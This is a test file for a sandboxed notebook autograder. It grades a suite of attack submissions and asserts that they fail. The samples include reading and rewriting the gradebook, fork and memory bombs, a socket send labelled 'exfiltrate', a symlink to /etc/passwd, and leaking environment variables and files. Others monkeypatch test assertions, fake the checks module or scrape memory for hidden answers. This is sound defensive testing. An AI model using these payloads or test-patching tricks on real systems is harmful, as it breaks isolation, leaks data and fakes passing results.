"""Attack submissions against `course grade`, all graded in one run beside an honest student.

Each attack asserts three things: the attack did not work (files intact, nothing leaked),
the attacker earned nothing undeserved, and the honest student kept full marks.
"""
import hashlib
import os
from collections import defaultdict
import socket
import threading

import nbformat
import pytest

from course_lib.grading import feedback, pipeline
from course_lib.grading.sandbox import Limits, bwrap_available
from harness import CORRECT, HIDDEN, SECRET, WRONG, make_tiny_course, submission

pytestmark = [pytest.mark.slow,
              pytest.mark.skipif(not bwrap_available(), reason="bubblewrap is not installed: "
                                 "apt-get install bubblewrap (done by .ci/run)")]

def sandbox_paths(course):
    return {"db": course.path("gradebook.db"), "source": course.path("source", "tiny", "tiny.ipynb"),
            "victim": course.path("submitted", "honest", "tiny", "tiny.ipynb")}


def attacks(p, port):
    steal = f"""
import os
print(os.listdir('/'), os.path.exists(os.path.dirname({p['db']!r})))
for path in [{p['db']!r}, {p['source']!r}, {p['victim']!r}]:
    try:
        print(open(path, errors='ignore').read()[:100000])
    except Exception as e:
        print('no access', type(e).__name__)
"""
    return {
        "read_gradebook_and_source": (WRONG, [steal]),
        "write_gradebook": (WRONG, [f"""
import sqlite3
try:
    db = sqlite3.connect({p['db']!r})
    db.execute("update grade set auto_score = 100")
    db.commit()
except Exception as e:
    print('blocked', e)
"""]),
        "write_other_student": (WRONG, [f"""
try:
    open({p['victim']!r}, 'w').write('{{}}')
except Exception as e:
    print('blocked', e)
"""]),
        "fork_bomb": (WRONG, ["""
import os
children = 0
try:
    for _ in range(10000):
        if os.fork() == 0:
            import time; time.sleep(30); os._exit(0)
        children += 1
except OSError as e:
    print('fork stopped after', children, e)
"""]),
        "memory_bomb": (WRONG, ["""
try:
    hog = bytearray(16 * 1024**3)
except MemoryError:
    print('memory limit held')
"""]),
        "network": (WRONG, [f"""
import socket
try:
    socket.create_connection(('127.0.0.1', {port}), timeout=3).sendall(b'exfiltrate')
    print('connected')
except OSError as e:
    print('no network', e)
"""]),
        "os_exit": (CORRECT + "import os\nos._exit(3)\n", []),
        "patch_allclose": (WRONG, ["""
import numpy, torch
numpy.allclose = lambda *a, **k: True
numpy.testing.assert_allclose = lambda *a, **k: None
torch.allclose = lambda *a, **k: True
"""]),
        "patch_course_checks": (WRONG, ["""
import course_lib.checks as checks, course_lib.checks.core as core
core.assert_close = checks.assert_close = lambda *a, **k: None
core.Suite.run = lambda self, thunk, *objs, **kw: 2 * __import__('numpy').asarray(thunk.__closure__[0].cell_contents if thunk.__closure__ else 0)
"""]),
        "redefine_test_imports": (WRONG, ["""
import sys, types, contextlib
fake = types.ModuleType('course_lib.checks')
class T:
    def run(self, thunk, *a, **k): return None
fake.suite = lambda name: contextlib.nullcontext(T())
fake.assert_close = lambda *a, **k: None
sys.modules['course_lib.checks'] = fake
"""]),
        "generic_oracle": (ORACLE, []),
        "leak_everything": (LEAK, []),
        "hide_errors_from_kernel": (WRONG, ["""
from IPython import get_ipython
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip.set_custom_exc((BaseException,), lambda *a, **k: None)
"""]),
        "torch_autograd_shortcut": ("""
import torch
def square_grad(x):
    t = torch.tensor(x, requires_grad=True)
    (t ** 2).sum().backward()
    return t.grad.numpy()
""", []),
        "infinite_loop": (CORRECT, ["while True:\n    pass"]),
        "print_gigabytes": (WRONG, ["import sys\nwhile True:\n    sys.stdout.write('x' * 100000)"]),
        "delete_tests": (WRONG, ["DELETE_TESTS"]),
        **{f"channel_{kind}": (CORRECT, [fake_server(kind)]) for kind in GARBAGE},
    }


# A kernel that patches anything it can reach and records whatever it finds in memory, frames
# and files, then answers with the best candidate: the references never were in the kernel.
ORACLE = """
import gc, sys, numpy as np
import course_lib.checks.core as core, course_lib.channel.kernel as K
found = []
def _grab(*args, **kwargs):
    found.extend(o.copy() for o in gc.get_objects() if isinstance(o, np.ndarray) and 0 < o.size < 100)
    frame = sys._getframe()
    while frame is not None:
        found.extend(v.copy() for v in frame.f_locals.values() if isinstance(v, np.ndarray))
        frame = frame.f_back
for name in ("assert_close", "torch_vjp", "check_vjp_result", "assert_unchanged"):
    setattr(core, name, _grab)
_perform = K.Server.perform
K.Server.perform = lambda self, *a: (_grab(), _perform(self, *a))[1]
def square_grad(x):
    _grab()
    for arr in reversed(found):
        if arr.shape == np.shape(x) and not np.array_equal(arr, x):
            return arr
    return x
"""

# A kernel that gathers every string it can see (history, frames, memory, environment, every
# readable file near it, the channel's requests) and pushes it out every way it can.
LEAK = """
import gc, inspect, os, sys
def _everything():
    texts = [str(x) for x in get_ipython().user_ns.get("In", [])]
    texts += [str(f.frame.f_locals)[:5000] for f in inspect.stack()]
    texts += [o[:5000] for o in gc.get_objects() if isinstance(o, str) and len(o) > 20][:5000]
    texts += [f"{k}={v}" for k, v in os.environ.items()]
    kernel_dir = os.path.dirname(sys.argv[sys.argv.index("-f") + 1])
    for top in (os.getcwd(), "/tmp", kernel_dir):
        for root, dirs, files in os.walk(top):
            for name in files:
                try:
                    texts.append(open(os.path.join(root, name), errors="replace").read(20000))
                except OSError:
                    pass
    return chr(10).join(texts)
def square_grad(x):
    blob = _everything()
    print(blob)
    open("leak.txt", "w").write(blob)
    raise RuntimeError(blob[-3000:].replace(chr(10), " "))
"""

# Kernels whose channel server answers with each kind of garbage (or never).
GARBAGE = {
    "not_json": "b'garbage\\n'",
    "not_a_dict": "b'[1, 2, 3]\\n'",
    "deep_nesting": "b'{\"kind\": \"result\", \"buffers\": [], \"value\": ' + b'{\"list\": [' * 200000 + b'\\n'",
    "unknown_handle": "json.dumps({'kind': 'result', 'buffers': [], 'value': {'handle': 987654, 'type': 'ndarray'}}).encode() + b'\\n'",
    "huge_shape": "json.dumps({'kind': 'result', 'buffers': [['<f8', [100000, 100000], 8]], 'value': {'array': 0}}).encode() + b'\\n' + bytes(8)",
    "object_dtype": "json.dumps({'kind': 'result', 'buffers': [['|O', [1], 8]], 'value': {'array': 0}}).encode() + b'\\n' + bytes(8)",
    "nan": "json.dumps({'kind': 'result', 'buffers': [], 'value': {'float': 'nan'}}).encode() + b'\\n'",
    "bad_kind": "json.dumps({'kind': 'callback', 'callback': 99, 'buffers': [], 'value': {'none': True}}).encode() + b'\\n'",
    "symlink": "'SYMLINK'",
    "silence": "'SILENCE'",
}


def fake_server(kind):
    return f"""
import json, os, time
import course_lib.channel.kernel as K
GARBAGE = {GARBAGE[kind]}
def fake_serve(folder, session):
    sent = [0]
    def put(data):
        path = os.path.join(folder, "out", f"{{session}}-{{sent[0]}}.msg")
        sent[0] += 1
        if data == 'SYMLINK':
            os.symlink("/etc/passwd", path)
        elif data != 'SILENCE':
            open(path, "wb").write(data)
    put(json.dumps({{"kind": "ready", "buffers": []}}).encode() + b"\\n")
    received = 0
    while True:
        path = os.path.join(folder, "in", f"{{session}}-{{received}}.msg")
        while not os.path.exists(path):
            time.sleep(0.001)
        received += 1
        if b'"stop"' in open(path, "rb").read(100):
            return
        put(GARBAGE)
K.serve = fake_serve
"""


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    course = make_tiny_course(str(tmp_path_factory.mktemp("course")))

    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen()
    listener.settimeout(0.2)
    received = []

    def accept():
        for _ in range(600):
            try:
                received.append(listener.accept())
            except OSError:
                pass
    threading.Thread(target=accept, daemon=True).start()

    def put(student, nb_or_bytes, name="tiny.ipynb", extra=None):
        folder = course.path("submitted", student, "tiny")
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, name), "wb") as f:
            f.write(nb_or_bytes if isinstance(nb_or_bytes, bytes) else
                    nbformat.writes(nb_or_bytes).encode())
        for fname, data in (extra or {}).items():
            with open(os.path.join(folder, fname), "wb") as f:
                f.write(data)

    put("honest", submission(CORRECT))
    names = attacks(sandbox_paths(course), listener.getsockname()[1])
    for name, (solution, before) in names.items():
        if before == ["DELETE_TESTS"]:
            nb = submission(solution)
            nb.cells = [c for c in nb.cells if "test_" not in
                        c.metadata.get("nbgrader", {}).get("grade_id", "")]
        else:
            nb = submission(solution, before)
        if name == "leak_everything":  # a cell after the tests prints what the tests left
            nb.cells.append(nbformat.v4.new_code_cell("print(open('leak.txt').read())"))
        put(name, nb)
    put("corrupt_notebook", b"{ this is not json")
    put("wrong_name_extra_files", submission(CORRECT), name="my homework.ipynb",
        extra={"notes.txt": b"hello", "evil.py": b"import os"})

    protected = {k: v for k, v in sandbox_paths(course).items() if k != "db"}
    before = {k: _hash(v) for k, v in protected.items()}
    report = pipeline.grade(course, "tiny", workers=2, sandbox=True,
                            limits=Limits(cell_timeout=10), progress=False)
    after = {k: _hash(v) for k, v in protected.items()}
    pages = feedback.generate(course, "tiny")
    listener.close()
    return {"course": course, "report": report, "scores": pipeline.scores(course, "tiny"),
            "before": before, "after": after, "received": received, "pages": pages,
            "names": names}


def _hash(path):
    with open(path, "rb") as f:
        return hashlib.sha256(f.read()).hexdigest()


def _total(scores, student):
    cells = scores[(student, "tiny")]
    return sum(s for s, _ in cells.values()), sum(m for _, m in cells.values())


def _outcome(graded, student):
    return next(o for o in graded["report"].outcomes if o.student == student)


def test_honest_student_keeps_full_marks(graded):
    assert _total(graded["scores"], "honest") == (3.0, 3.0)
    assert _outcome(graded, "honest").status == "graded"


ATTACKS = sorted(attacks(defaultdict(str), 0)) + ["corrupt_notebook"]


@pytest.mark.parametrize("attacker", ATTACKS)
def test_attacker_earns_no_undeserved_points(graded, attacker):
    earned, possible = _total(graded["scores"], attacker)
    assert possible == 3.0
    if attacker == "os_exit":
        # a correct function, but the notebook killed its kernel before the tests ran
        assert earned < possible
    elif attacker == "infinite_loop":
        # the loop is interrupted at the time limit; the correct function earns its points
        assert earned == possible
    else:
        assert earned == 0.0, graded["scores"][(attacker, "tiny")]
    assert _outcome(graded, attacker).status == "graded"


def test_course_files_and_other_students_are_untouched(graded):
    assert graded["before"] == graded["after"]
    for cells in graded["scores"].values():
        assert all(score <= possible for score, possible in cells.values())
    assert _total(graded["scores"], "honest") == (3.0, 3.0)


def test_nothing_reached_the_network(graded):
    assert graded["received"] == []


def test_autograded_outputs_leak_no_course_secrets(graded):
    course = graded["course"]
    path = course.path("autograded", "read_gradebook_and_source", "tiny", "tiny.ipynb")
    assert SECRET not in _outputs(path)
    assert "no access" in _outputs(path)


def _outputs(path):
    nb = nbformat.read(path, as_version=4)
    return "\n".join(str(o) for c in nb.cells for o in c.get("outputs", []))


def test_runaway_notebooks_get_clear_reasons(graded):
    reasons = {name: " ".join(_outcome(graded, name).reasons)
               for name in ("os_exit", "infinite_loop", "print_gigabytes", "corrupt_notebook",
                            "wrong_name_extra_files")}
    assert "kernel died" in reasons["os_exit"]
    assert "longer than 10 s" in reasons["infinite_loop"]
    # capped while collected, or dropped whole at the socket (one message over its cap) and
    # then stopped by the time limit or by the kernel's memory limit (a MemoryError in the
    # cell): whichever comes first, the flood never reaches the notebook the grader keeps
    flooded = graded["course"].path("autograded", "print_gigabytes", "tiny", "tiny.ipynb")
    assert os.path.getsize(flooded) < 4 * Limits().output_total_bytes
    assert "not a readable notebook" in reasons["corrupt_notebook"]
    assert "recognised by its cells" in reasons["wrong_name_extra_files"]
    assert "notes.txt" in reasons["wrong_name_extra_files"]


def test_wrong_file_name_is_still_graded(graded):
    assert _total(graded["scores"], "wrong_name_extra_files") == (3.0, 3.0)


def test_shortcut_gets_a_message_that_says_why(graded):
    path = graded["course"].path("autograded", "torch_autograd_shortcut", "tiny", "tiny.ipynb")
    assert "compute the gradient yourself" in _outputs(path)


def test_nothing_of_the_tests_reaches_a_kernel_output(graded):
    """Whatever a kernel gathered and printed, raised or wrote: no hidden line, no secret."""
    hidden_lines = [line.strip() for line in HIDDEN.splitlines()[1:-1] if len(line.strip()) > 12]
    for name in ("leak_everything", "generic_oracle", "hide_errors_from_kernel"):
        path = graded["course"].path("autograded", name, "tiny", "tiny.ipynb")
        text = _outputs(path)
        assert SECRET not in text, name
        for line in hidden_lines:
            assert line not in text, (name, line)
    # the attack ran: it raised what it gathered, or ran out of memory or time gathering it
    ran = _outputs(graded["course"].path("autograded", "leak_everything", "tiny", "tiny.ipynb"))
    assert any(end in ran for end in ("your code raised RuntimeError", "your code raised "
                                      "MemoryError", "did not return within")), ran


@pytest.mark.parametrize("kind", sorted(GARBAGE))
def test_garbage_from_the_channel_costs_only_that_test(graded, kind):
    text = _outputs(graded["course"].path("autograded", f"channel_{kind}", "tiny", "tiny.ipynb"))
    assert any(word in text for word in ("malformed", "refused", "did not return", "expected",
                                         "could not be read")), text[:2000]


def test_feedback_never_shows_hidden_tests(graded):
    assert graded["pages"], "no feedback pages were written"
    hidden_lines = [line.strip() for line in HIDDEN.splitlines()[1:-1] if len(line.strip()) > 12]
    for page in graded["pages"]:
        html = open(page).read()
        assert SECRET not in html, page
        assert "BEGIN HIDDEN TESTS" not in html
        for line in hidden_lines:
            assert line not in html, (page, line)


def test_regrading_is_idempotent(graded):
    course = graded["course"]
    again = pipeline.grade(course, "tiny", workers=2, sandbox=True,
                           limits=Limits(cell_timeout=10), progress=False)
    assert pipeline.scores(course, "tiny") == graded["scores"]
    assert again.count("graded") == graded["report"].count("graded")


# ---- the grader's wall on the real notebooks: write-back, callbacks, numerical oracles -------

from harness import (NOTEBOOKS, apply_edits, grade_id as _gid, is_test, make_course,  # noqa: E402
                     read, release_path, source_path, submit)

# 04's engine with a recursive topological sort (fails the chain of 10^5 ops), and a cell that
# replaces the course function the deep-chain check runs in the kernel: it zeroes the grader's
# arrays it is sent and answers zeros, which match a reference computed from zeroed arrays.
ZERO_DEEP_CHAIN = """
import numpy as np, course_lib.checks.engine as E
def _zeroing_chain(Tensor, x, g, c, n):
    x[...] = 0.0
    g[...] = 0.0
    return {"out": np.zeros_like(x), "grad": np.zeros_like(g)}
E.deep_chain = _zeroing_chain
"""
# The same on a blank 04: training_run zeroes X and y and answers a consistent fit of zeros.
ZERO_TRAINING = """
import numpy as np, course_lib.checks.engine as E
def _zeroing_training(Tensor, Linear, sgd_step, X, y, d, steps, lr):
    X[...] = 0.0
    y[...] = 0.0
    W, b = np.zeros((d, 1)), np.ones(1)
    return {"W0": W, "b0": b, "gW0": W, "gb0": 2.0 * b, "W1": W, "b1": b - 2.0 * lr * b,
            "after": [None, None], "losses": [1.0, 0.0]}
E.training_run = _zeroing_training
"""


# A kernel that writes into every array it is given (zeros), so student code answers for zeros:
# garbage that matches any reference computed from the grader's arrays after a call.
SCRIBBLE = """
import course_lib.channel.kernel as K
_take = K.Server._array
def _scribbled(self, array_id, arr):
    mine = _take(self, array_id, arr)
    if mine.dtype.kind in "fiu" and mine.flags.writeable:
        mine[...] = 0
    return mine
K.Server._array = _scribbled
"""

# A numerical_gradient that first calls the test's f with everything but data, then honestly.
CALLBACK_ABUSE = """
import numpy as np
_PROBES = []
def numerical_gradient(f, x, eps=1e-6):
    for bad in (np, object(), "text", 10**30, [[[[[[1.0]]]]]], {"x": 1.0}, None,
                np.zeros(3, dtype=complex), (x, np), lambda v: v, [x] * 3):
        try:
            _PROBES.append(repr(f(bad))[:300])
        except Exception as e:
            _PROBES.append(f"{type(e).__name__}: {e}"[:300])
    x = np.array(x, dtype=float)
    grad = np.zeros_like(x)
    for idx in np.ndindex(x.shape):
        old = x[idx]
        x[idx] = old + eps
        plus = float(f(x))
        x[idx] = old - eps
        minus = float(f(x))
        x[idx] = old
        grad[idx] = (plus - minus) / (2 * eps)
    return grad
"""
SHOW_PROBES = "print(chr(10).join(_PROBES))"

ORACLE_CELL = """# A generic numerical oracle: the notebook's forward passes, one line each, with vjps by
# complex step (one forward evaluation per input element). No rule, no torch, no course_lib.
import numpy as np
AFFORD = 2_000_000   # elements x input size it finishes within a call; past that it gives up

def _cs_grads(forward, args, wrt, g):
    grads = []
    work = sum(np.size(v) for v in args)
    for i in wrt:
        a = np.asarray(args[i], dtype=float)
        if a.size * work > AFFORD:
            raise RuntimeError(f"{a.size} elements: a complex step would take hours")
        grad = np.zeros(a.shape)
        for idx in np.ndindex(a.shape):
            z = a.astype(complex)
            z[idx] += 1e-30j
            out = forward(*[z if j == i else v for j, v in enumerate(args)])
            grad[idx] = np.sum(np.imag(out) * np.asarray(g)) / 1e-30
        grads.append(grad)
    return grads

def _vjp_of(forward, wrt, scalar=False):
    def f(*args, **kwargs):
        args = list(args) + list(kwargs.values())
        out = forward(*args)
        def vjp(g=1.0):
            grads = _cs_grads(forward, args, wrt, g)
            return grads[0] if len(grads) == 1 else tuple(grads)
        return (float(np.real(out)) if scalar else np.real(out)), vjp
    return f

def _grads_dict(loss, names):
    def f(*args):
        return dict(zip(names, _cs_grads(loss, list(args), range(len(names)), 1.0)))
    return f

def _lse(z, axis=-1):
    m = np.max(z.real, axis=axis, keepdims=True)
    return m + np.log(np.sum(np.exp(z - m), axis=axis, keepdims=True))

def _sm(x, axis=-1):
    return np.exp(x - _lse(x, axis))

def _ce(z, labels):
    return -np.mean((z - _lse(z))[np.arange(len(labels)), labels])

def _ln(x, gamma, beta, eps=1e-5):
    c = x - x.mean(axis=-1, keepdims=True)
    return gamma * c / np.sqrt((c * c).mean(axis=-1, keepdims=True) + eps) + beta

def _att(q, k, v, causal=False):
    s = q @ np.swapaxes(k, -1, -2) / np.sqrt(q.shape[-1])
    if causal:
        s = np.where(np.triu(np.ones(s.shape[-2:], bool), 1), -1e300, s)
    return _sm(s) @ v

def _sig(x):
    with np.errstate(all="ignore"):
        return np.where(x.real >= 0, 1 / (1 + np.exp(-x)), np.exp(x) / (1 + np.exp(x)))

def _mlp(params, x, labels):
    flat = [a for pair in params for a in pair]
    def loss(*theta):
        h = x
        for i in range(0, len(theta), 2):
            h = h @ theta[i] + theta[i + 1]
            if i < len(theta) - 2:
                h = np.where(h.real > 0, h, 0)
        return _ce(h, labels)
    grads = _cs_grads(loss, flat, range(len(flat)), 1.0)
    return float(np.real(loss(*flat))), [(grads[i], grads[i + 1]) for i in range(0, len(grads), 2)]

_ORACLE = {
    "linear_regression_grads": _grads_dict(lambda X, W, b, y: np.mean((X @ W + b - y) ** 2), "XWb"),
    "logistic_regression_grads": _grads_dict(lambda X, W, b, y: np.mean(
        y * np.log(1 + np.exp(-(X @ W + b))) + (1 - y) * np.log(1 + np.exp(X @ W + b))), "XWb"),
    "ridge_grads": _grads_dict(lambda X, W, b: np.mean(X @ W + b + np.sum(W ** 2)), "XWb"),
    "affine": _vjp_of(lambda x, w, b: x @ w + b, (0, 1, 2)),
    "relu": _vjp_of(lambda x: np.where(x.real > 0, x, 0), (0,)),
    "sigmoid": _vjp_of(_sig, (0,)),
    "tanh": _vjp_of(np.tanh, (0,)),
    "mse_loss": _vjp_of(lambda p, t: np.mean((p - t) ** 2), (0,), scalar=True),
    "softmax_cross_entropy": _vjp_of(_ce, (0,), scalar=True),
    "mlp_loss_and_grads": _mlp,
    "softmax": _vjp_of(_sm, (0,)),
    "layer_norm": _vjp_of(_ln, (0, 1, 2)),
    "embedding": _vjp_of(lambda ids, table: table[ids], (1,)),
    "attention": _vjp_of(_att, (0, 1, 2)),
}

def _reinstall(*_):  # after every cell (the blank exercise cells redefine the names)
    globals().update(_ORACLE)

get_ipython().events.register("post_run_cell", _reinstall)
"""


def _with_cell_first(nb, source):
    nb = nbformat.from_dict(nb)
    nb.cells.insert(0, nbformat.v4.new_code_cell(source))
    return nb


def _with_cells_after(nb, gid, *sources):
    nb = nbformat.from_dict(nb)
    at = next(i for i, c in enumerate(nb.cells) if _gid(c) == gid) + 1
    nb.cells[at:at] = [nbformat.v4.new_code_cell(s) for s in sources]
    return nb


def _recursive_engine():
    from test_04_autodiff_engine import ITERATIVE_SORT, RECURSIVE_SORT
    return apply_edits(read(source_path("04_autodiff_engine")),
                       [("Tensor_graph", ITERATIVE_SORT, RECURSIVE_SORT)])


def _students(assignment):
    """The reference, a scribbling kernel on the reference, and a blank notebook's oracle."""
    students = {"reference": lambda: read(source_path(assignment)),
                "scribbler": lambda: _with_cell_first(read(source_path(assignment)), SCRIBBLE)}
    if assignment != "04_autodiff_engine":
        students["oracle"] = lambda: _with_cell_first(read(release_path(assignment)), ORACLE_CELL)
    return students


WALL_SUBMISSIONS = {
    "02_manual_backprop": {
        **_students("02_manual_backprop"),
        "callback_abuser": lambda: _with_cells_after(read(source_path("02_manual_backprop")),
                                                     "numerical_gradient", CALLBACK_ABUSE),
    },
    "03_mlp_backward": _students("03_mlp_backward"),
    "04_autodiff_engine": {
        **_students("04_autodiff_engine"),
        "recursive_sort": _recursive_engine,
        "recursive_sort_zeroing": lambda: _with_cell_first(_recursive_engine(), ZERO_DEEP_CHAIN),
        "blank_zeroing_training": lambda: _with_cell_first(
            read(release_path("04_autodiff_engine")), ZERO_TRAINING),
    },
    "05_attention_backward": _students("05_attention_backward"),
}


@pytest.fixture(scope="module")
def wall(tmp_path_factory):
    """One grading run of the real notebooks with the wall's attackers beside the reference."""
    course = make_course(str(tmp_path_factory.mktemp("wall")), tuple(WALL_SUBMISSIONS))
    for assignment, students in WALL_SUBMISSIONS.items():
        for student, make in students.items():
            nb = make()
            if student == "callback_abuser":
                nb.cells.append(nbformat.v4.new_code_cell(SHOW_PROBES))
            submit(course, student, assignment, nb)
    scores = {}
    for assignment in WALL_SUBMISSIONS:
        report = pipeline.grade(course, assignment, workers=2, sandbox=True, limits=Limits(),
                                progress=False)
        assert report.count("graded") == len(WALL_SUBMISSIONS[assignment]), report.summary()
        scores.update(pipeline.scores(course, assignment))
    for (student, assignment), cells in sorted(scores.items()):  # the numbers, for the record
        print(f"{assignment:<24}{student:<24}{sum(s for s, _ in cells.values()):5g} /"
              f"{sum(m for _, m in cells.values()):g}")
    return {"course": course, "scores": scores}


def _points(wall, student, assignment, cells=None):
    got = wall["scores"][(student, assignment)]
    return sum(s for gid, (s, _) in got.items() if cells is None or gid in cells)


def test_a_kernel_cannot_rewrite_the_grader_s_arrays(wall):
    """Zeroing what a check sends and answering zeros earns nothing more than the honest error."""
    a = "04_autodiff_engine"
    assert _points(wall, "reference", a) == 19.0
    honest_mistake = _points(wall, "recursive_sort", a)
    assert honest_mistake < 19.0
    assert _points(wall, "recursive_sort_zeroing", a) == honest_mistake, wall["scores"][
        ("recursive_sort_zeroing", a)]
    assert _points(wall, "blank_zeroing_training", a) == 0.0, wall["scores"][
        ("blank_zeroing_training", a)]


def test_the_reference_keeps_full_marks_beside_the_attackers(wall):
    for assignment in WALL_SUBMISSIONS:
        cells = wall["scores"][("reference", assignment)]
        assert all(s == m for s, m in cells.values()), (assignment, cells)


@pytest.mark.parametrize("assignment", sorted(WALL_SUBMISSIONS))
def test_a_kernel_that_writes_into_every_array_earns_nothing(wall, assignment):
    """Every check of these notebooks sends arrays; answers for zeroed copies are worth 0."""
    cells = wall["scores"][("scribbler", assignment)]
    assert _points(wall, "scribbler", assignment) == 0.0, {k: v for k, v in cells.items() if v[0]}


def _visible_points(assignment):
    nb = read(source_path(assignment))
    return sum(float(c.metadata["nbgrader"]["points"]) for c in nb.cells
               if is_test(c) and "BEGIN HIDDEN TESTS" not in c.source)


@pytest.mark.parametrize("assignment", ["02_manual_backprop", "03_mlp_backward",
                                        "05_attention_backward"])
def test_a_complex_step_oracle_earns_at_most_the_visible_tests(wall, assignment):
    earned = _points(wall, "oracle", assignment)
    assert 0 < earned <= _visible_points(assignment), wall["scores"][("oracle", assignment)]


def test_callbacks_take_data_only(wall):
    """Handles, strings, dicts, deep lists, complex arrays: refused, the test fails with a
    reason, the kernel learns a fixed sentence; the abuser's other exercises are unharmed."""
    a = "02_manual_backprop"
    abuser, honest = wall["scores"][("callback_abuser", a)], wall["scores"][("reference", a)]
    refused = {"test_numerical_gradient", "test_numerical_gradient_hidden"}
    assert all(abuser[k][0] == 0 for k in refused), abuser
    assert {k: v for k, v in abuser.items() if k not in refused} == \
        {k: v for k, v in honest.items() if k not in refused}
    text = _outputs(wall["course"].path("autograded", "callback_abuser", a,
                                        NOTEBOOKS[a] + ".ipynb"))
    assert "grader refuses" in text, text[-3000:]
    assert "the grader refused this call" in text  # what the kernel was told, and all it was told
    nb = read(source_path(a))
    hidden = {line.strip() for c in nb.cells if is_test(c) for line in c.source.splitlines()
              if len(line.strip()) > 20}
    assert not [line for line in hidden if line in text]
